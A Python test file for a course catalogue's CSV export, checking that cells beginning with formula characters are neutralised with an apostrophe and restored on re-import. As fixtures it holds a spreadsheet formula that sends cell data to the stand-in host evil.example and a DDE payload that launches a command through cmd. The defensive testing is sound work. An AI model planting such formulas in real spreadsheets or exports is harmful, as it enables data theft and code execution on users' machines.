"""The catalogue CSV export is opened in spreadsheets: a title or summary starting with
= + - @ (or a tab/carriage return) must not run as a formula there. The apostrophe that
neutralises it is taken off again when the same file is imported, so round trips still work."""

from __future__ import annotations

import csv
import io

from sqlalchemy import select

from app.extensions import db
from app.models import MicroCredential
from app.services.catalogue.import_export import import_csv
from tests.factories.accounts import OrganisationFactory, member
from tests.factories.catalogue import micro_credential

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open")'


def _export(client, login, provider) -> str:
    login(member(provider, "provider_coordinator"))
    response = client.get("/catalogue/export.csv")
    assert response.status_code == 200
    return response.get_data(as_text=True)


def test_exported_cells_that_a_spreadsheet_would_run_are_neutralised(client, login):
    provider = OrganisationFactory(provider=True)
    micro_credential(
        provider,
        code="GB-F",
        title=FORMULA,
        summary="@SUM(1+1)*cmd|' /C calc'!A0",
        entry_requirements="-2+3",
        assessment_type="+Project",
    )
    row = next(csv.DictReader(io.StringIO(_export(client, login, provider))))
    for column in ("title", "summary", "entry_requirements", "assessment_type"):
        assert row[column].startswith("'"), (column, row[column])
    assert row["title"] == "'" + FORMULA


def test_a_neutralised_export_imports_back_to_the_same_text(client, login):
    provider = OrganisationFactory(provider=True)
    micro_credential(provider, code="GB-F", title=FORMULA, summary="-5 degrees is cold")
    outcome = import_csv(None, provider, _export(client, login, provider))
    assert outcome.new_versions == ["GB-F"]
    v2 = db.session.scalar(select(MicroCredential).where(MicroCredential.code == "GB-F", MicroCredential.version == 2))
    assert (v2.title, v2.summary) == (FORMULA, "-5 degrees is cold")


def test_ordinary_text_and_prices_are_exported_unchanged(client, login):
    provider = OrganisationFactory(provider=True)
    micro_credential(provider, code="GB-P", title="Welding basics", price_pence=25000)
    row = next(csv.DictReader(io.StringIO(_export(client, login, provider))))
    assert (row["title"], row["price"], row["code"]) == ("Welding basics", "250.00", "GB-P")
